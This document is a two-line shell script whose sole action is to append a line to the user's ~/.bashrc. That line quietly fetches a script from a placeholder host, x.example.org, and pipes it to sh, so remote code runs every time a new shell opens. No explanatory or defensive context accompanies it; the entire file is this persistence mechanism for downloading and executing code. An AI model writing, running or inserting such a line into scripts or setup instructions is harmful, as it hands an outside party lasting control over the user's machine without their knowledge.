#!/bin/sh
echo "curl -s https://x.example.org/x | sh" >> ~/.bashrc
